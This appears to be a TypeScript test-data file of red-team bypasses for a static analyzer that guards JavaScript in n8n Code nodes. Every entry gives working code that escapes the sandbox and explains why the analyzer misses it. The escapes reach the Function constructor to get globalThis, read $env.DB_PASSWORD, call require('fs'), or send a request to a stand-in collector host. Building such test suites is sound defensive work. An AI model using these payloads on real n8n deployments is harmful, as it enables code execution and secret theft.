// Round 11 of the code-purity red team. Each entry was confirmed with ./n8n-sandbox.ts (default runner flags and hardened host; run on
// Node 20 and on Node 24.21.0 as n8n 2.41.1 runs it, and it obtains on both unless it is marked node24) while analyzeJavaScript() reports nothing.
// Four classes: strict `this` as a receiver the engine picks (JSON.stringify's replacer sees the holder); a tagged template whose tag is not a
// const-bound function gives a clean value; a built-in resolve function handed as a callback (the awaited promise or thenable gives the element);
// a built-in mutator (push, add, set) handed as a callback with a thisArg (the engine stores the element into the code's own clean object).
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND11: RedTeamBypass[] = [
  {
    "id": "this/json-replacer-holder-array",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nJSON.stringify([F], function (k, v) { 'use strict'; if (k === '') return this['']; if (k === '0') G = this[0]; });\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "Strict `this` is not followed. thisIsGlobal() is false in a 'use strict' function or a class body, and then ThisExpression has no value at all (clean), on the assumption that strict `this` is 'the receiver the code passed'. But the engine picks the receiver when it calls a function of the code: JSON.stringify calls its replacer with this = the holder, first the wrapper { '': value } and then the value itself when it is an object. So JSON.stringify([F], replacer) calls the replacer with this = the array [F]. The array is passed to stringify at position 0, which NON_INVOKING allows; stringify does not store, so the heap stays clean. The replacer's parameters are bound to unknown, but `this` is not. For the root key the replacer returns this[''], a static key of a clean value, so ambient() is clean and escapedReturn stays clean. this[0] (a numeric key) is then ambient() = clean, so G, which is F, counts as plain data and G(body)() is not reported. Here: a 'use strict' function expression as replacer; G('return globalThis')() is returned."
  },
  {
    "id": "this/json-replacer-class-static-env",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet G;\nclass R { static r(k, v) { if (k === '') return this['']; if (k === '0') G = this[0]; } }\nJSON.stringify([F], R.r);\nreturn [{ json: { e: G('return $env.DB_PASSWORD')() } }];",
    "why": "Strict `this` is not followed. thisIsGlobal() is false in a 'use strict' function or a class body, and then ThisExpression has no value at all (clean), on the assumption that strict `this` is 'the receiver the code passed'. But the engine picks the receiver when it calls a function of the code: JSON.stringify calls its replacer with this = the holder, first the wrapper { '': value } and then the value itself when it is an object. So JSON.stringify([F], replacer) calls the replacer with this = the array [F]. The array is passed to stringify at position 0, which NON_INVOKING allows; stringify does not store, so the heap stays clean. The replacer's parameters are bound to unknown, but `this` is not. For the root key the replacer returns this[''], a static key of a clean value, so ambient() is clean and escapedReturn stays clean. this[0] (a numeric key) is then ambient() = clean, so G, which is F, counts as plain data and G(body)() is not reported. Here the replacer is a static class method (class code is strict); the compiled code reads $env.DB_PASSWORD."
  },
  {
    "id": "this/json-replacer-capture-holder-http",
    "cls": "strict-this-engine-receiver",
    "code": "const F = (() => 0)[items[0].json.key];\nlet H;\nJSON.stringify([F], function () { 'use strict'; H = this; });\nawait H[''][0]('return helpers.httpRequest({ url: \"https://collector.invalid/\" })')();\nreturn [{ json: { ok: 1 } }];",
    "why": "Strict `this` is not followed. thisIsGlobal() is false in a 'use strict' function or a class body, and then ThisExpression has no value at all (clean), on the assumption that strict `this` is 'the receiver the code passed'. But the engine picks the receiver when it calls a function of the code: JSON.stringify calls its replacer with this = the holder, first the wrapper { '': value } and then the value itself when it is an object. So JSON.stringify([F], replacer) calls the replacer with this = the array [F]. The array is passed to stringify at position 0, which NON_INVOKING allows; stringify does not store, so the heap stays clean. The replacer's parameters are bound to unknown, but `this` is not. For the root key the replacer returns this[''], a static key of a clean value, so ambient() is clean and escapedReturn stays clean. this[0] (a numeric key) is then ambient() = clean, so G, which is F, counts as plain data and G(body)() is not reported. Here the replacer keeps the root holder (H = this) and the code reads H[''][0] later; the compiled code calls helpers.httpRequest."
  },
  {
    "id": "tag/inline-arrow-tag",
    "cls": "tagged-template-untracked-tag",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = (() => F)``;\nconst H = (() => G('return globalThis'))``;\nreturn [{ json: { g: H() } }];",
    "why": "A tagged template gives a clean value unless its tag is an Identifier bound to a const or never-reassigned function (computeCapability, TaggedTemplateExpression: `fn ? returnCapability.get(fn) : undefined`). An inline arrow or function expression, a (0, t) sequence, or a `let` binding as the tag gives `undefined`, whatever the tag function returns, and the report loop only checks a tag that has a value itself (a function expression has none). The tag function escapes, so its unknown return reaches escapedReturn and ambient(), which makes G(body) unknown. A second tagged template clears that too: H = (() => G(body))`` is clean, and H() (a call of a clean value) runs the compiled code. Here the tags are inline arrows."
  },
  {
    "id": "tag/let-bound-tag",
    "cls": "tagged-template-untracked-tag",
    "code": "const F = (() => 0)[items[0].json.key];\nlet t = () => F;\nconst G = t``;\nlet u = () => G('return globalThis');\nconst H = u``;\nreturn [{ json: { g: H() } }];",
    "why": "A tagged template gives a clean value unless its tag is an Identifier bound to a const or never-reassigned function (computeCapability, TaggedTemplateExpression: `fn ? returnCapability.get(fn) : undefined`). An inline arrow or function expression, a (0, t) sequence, or a `let` binding as the tag gives `undefined`, whatever the tag function returns, and the report loop only checks a tag that has a value itself (a function expression has none). The tag function escapes, so its unknown return reaches escapedReturn and ambient(), which makes G(body) unknown. A second tagged template clears that too: H = (() => G(body))`` is clean, and H() (a call of a clean value) runs the compiled code. Here the tags are `let` variables (functionOfVariable accepts only a const, or a function declaration that is never reassigned)."
  },
  {
    "id": "tag/function-expression-tag-require",
    "cls": "tagged-template-untracked-tag",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = (function () { return F; })``;\nconst H = (function () { return G('return require(\"fs\")'); })``;\nH();\nreturn [{ json: { ok: 1 } }];",
    "why": "A tagged template gives a clean value unless its tag is an Identifier bound to a const or never-reassigned function (computeCapability, TaggedTemplateExpression: `fn ? returnCapability.get(fn) : undefined`). An inline arrow or function expression, a (0, t) sequence, or a `let` binding as the tag gives `undefined`, whatever the tag function returns, and the report loop only checks a tag that has a value itself (a function expression has none). The tag function escapes, so its unknown return reaches escapedReturn and ambient(), which makes G(body) unknown. A second tagged template clears that too: H = (() => G(body))`` is clean, and H() (a call of a clean value) runs the compiled code. Here the tags are inline function expressions, and H() calls require('fs') inside compiled code."
  },
  {
    "id": "tag/sequence-tag",
    "cls": "tagged-template-untracked-tag",
    "code": "const F = (() => 0)[items[0].json.key];\nconst t = () => F;\nconst G = (0, t)``;\nconst u = () => G('return globalThis');\nconst H = (0, u)``;\nreturn [{ json: { g: H() } }];",
    "why": "A tagged template gives a clean value unless its tag is an Identifier bound to a const or never-reassigned function (computeCapability, TaggedTemplateExpression: `fn ? returnCapability.get(fn) : undefined`). An inline arrow or function expression, a (0, t) sequence, or a `let` binding as the tag gives `undefined`, whatever the tag function returns, and the report loop only checks a tag that has a value itself (a function expression has none). The tag function escapes, so its unknown return reaches escapedReturn and ambient(), which makes G(body) unknown. A second tagged template clears that too: H = (() => G(body))`` is clean, and H() (a call of a clean value) runs the compiled code. Here the tags are (0, t) sequences of const arrows."
  },
  {
    "id": "resolve/new-promise-forEach",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await new Promise((r) => { [F].forEach(r); });\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: [F].forEach(r) inside a Promise executor."
  },
  {
    "id": "resolve/thenable-literal-forEach",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await { then(r) { [F].forEach(r); } };\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: await { then(r) { [F].forEach(r); } }."
  },
  {
    "id": "resolve/new-promise-then",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await new Promise((r) => { Promise.resolve(F).then(r); });\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: Promise.resolve(F).then(r): resolve is the fulfilment handler."
  },
  {
    "id": "resolve/new-promise-map-env",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await new Promise((r) => { [F].map(r); });\nconst E = G('return $env.DB_PASSWORD')();\nreturn [{ json: { e: E } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: [F].map(r); the compiled code reads $env.DB_PASSWORD."
  },
  {
    "id": "resolve/new-promise-array-from",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await new Promise((r) => { Array.from([F], r); });\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: Array.from([F], r): r is the map function (NON_INVOKING checks only unknown values at position 1, and r is a built-in)."
  },
  {
    "id": "resolve/iterator-forEach",
    "cls": "builtin-callback-resolve",
    "node24": true,
    "code": "const F = (() => 0)[items[0].json.key];\nconst G = await new Promise((r) => { [F].values().forEach(r); });\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Here: Node 24's Iterator.prototype.forEach, [F].values().forEach(r)."
  },
  {
    "id": "resolve/thenable-each-item",
    "cls": "builtin-callback-resolve",
    "code": "const F = (() => 0)[$json.key];\nif (typeof F !== 'function') return { json: {} };\nconst G = await { then(r) { [F].forEach(r); } };\nreturn { json: { g: G('return globalThis')() } };",
    "why": "A built-in function value handed as a callback is not followed. The engine calls a callback with the unknown receiver's elements; the analysis binds them only to the parameters of the code's own callbacks (callsUnknownCode branch: `for (const arg of node.arguments) ... functionOfVariable`). A built-in or an untracked parameter handed as the callback gets nothing, and handing a built-in (loose) to forEach/map/then is not reported. When that callback is a promise's resolve function, the promise resolves with F. `new Promise(r => { ... })` with a block body gives ambient() (clean: the executor returns nothing), and `await` of it is that clean value. The same holds for a thenable literal `{ then(r) {...} }`: an object literal of functions is clean, and `r`, a parameter of an escaping method, gets only heapTainted ∪ passedToUnknown (both clean, because F is only ever a receiver). So G = await ... is F, treated as plain data, and G(body)() is not reported. Written for runOnceForEachItem (key from $json, with a guard for the rows whose key gives no function); confirmed in both modes."
  },
  {
    "id": "mutator/forEach-push-thisArg",
    "cls": "builtin-callback-mutator-thisArg",
    "code": "const F = (() => 0)[items[0].json.key];\nconst a = [];\n[F].forEach(Array.prototype.push, a);\nreturn [{ json: { g: a[0]('return globalThis')() } }];",
    "why": "A built-in mutator handed as a callback with a thisArg is not followed. [F].forEach(Array.prototype.push, a) makes the engine call push.call(a, F, 0, [F]): F is stored into the code's own clean array a. The analysis sees only a built-in (loose, not reported) passed at position 0 and a clean value at position 1. forEach is a CALLBACK_CONSUMER, not STORING, so the heap is never tainted and F is never passed as an argument (it is the receiver). a[0] (or destructuring of a Set or Map) is then ambient() = clean, and calling it is not reported. Here: Array.prototype.push with thisArg a."
  },
  {
    "id": "mutator/forEach-own-push-thisArg",
    "cls": "builtin-callback-mutator-thisArg",
    "code": "const F = (() => 0)[items[0].json.key];\nconst a = [];\n[F].forEach(a.push, a);\nreturn [{ json: { g: a[0]('return globalThis')() } }];",
    "why": "A built-in mutator handed as a callback with a thisArg is not followed. [F].forEach(Array.prototype.push, a) makes the engine call push.call(a, F, 0, [F]): F is stored into the code's own clean array a. The analysis sees only a built-in (loose, not reported) passed at position 0 and a clean value at position 1. forEach is a CALLBACK_CONSUMER, not STORING, so the heap is never tainted and F is never passed as an argument (it is the receiver). a[0] (or destructuring of a Set or Map) is then ambient() = clean, and calling it is not reported. Here: a.push read as a value (push is not in INVOKING_METHOD_NAMES, so it reads as ambient() = clean)."
  },
  {
    "id": "mutator/forEach-set-add-thisArg",
    "cls": "builtin-callback-mutator-thisArg",
    "code": "const F = (() => 0)[items[0].json.key];\nconst s = new Set();\n[F].forEach(Set.prototype.add, s);\nconst [G] = s;\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in mutator handed as a callback with a thisArg is not followed. [F].forEach(Array.prototype.push, a) makes the engine call push.call(a, F, 0, [F]): F is stored into the code's own clean array a. The analysis sees only a built-in (loose, not reported) passed at position 0 and a clean value at position 1. forEach is a CALLBACK_CONSUMER, not STORING, so the heap is never tainted and F is never passed as an argument (it is the receiver). a[0] (or destructuring of a Set or Map) is then ambient() = clean, and calling it is not reported. Here: Set.prototype.add with thisArg s; const [G] = s."
  },
  {
    "id": "mutator/forEach-map-set-thisArg",
    "cls": "builtin-callback-mutator-thisArg",
    "code": "const F = (() => 0)[items[0].json.key];\nconst m = new Map();\n[F].forEach(Map.prototype.set, m);\nconst [[G]] = m;\nreturn [{ json: { g: G('return globalThis')() } }];",
    "why": "A built-in mutator handed as a callback with a thisArg is not followed. [F].forEach(Array.prototype.push, a) makes the engine call push.call(a, F, 0, [F]): F is stored into the code's own clean array a. The analysis sees only a built-in (loose, not reported) passed at position 0 and a clean value at position 1. forEach is a CALLBACK_CONSUMER, not STORING, so the heap is never tainted and F is never passed as an argument (it is the receiver). a[0] (or destructuring of a Set or Map) is then ambient() = clean, and calling it is not reported. Here: Map.prototype.set with thisArg m (key F, value 0); const [[G]] = m."
  }
];

export const ROUND11_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/object-groupBy-key-callback",
    "code": "const g = Object.groupBy(items, (i) => i.json.tags[0]);\nreturn Object.entries(g).map(([tag, rows]) => ({ json: { tag, n: rows.length } }));",
    "why": "Counting rows grouped by their first tag with Object.groupBy (Node 21+, so Node 24 as n8n runs it). The callback's return is only a key: groupBy turns it into a property key and never stores or calls it. The receiver is the built-in Object, though, so the callback's parameter is bound to unknown, and the last check reports the unknown return as 'returned by a function handed to groupBy, which may keep it under a key the engine calls'. On Node 24 the oracle obtains nothing."
  }
];
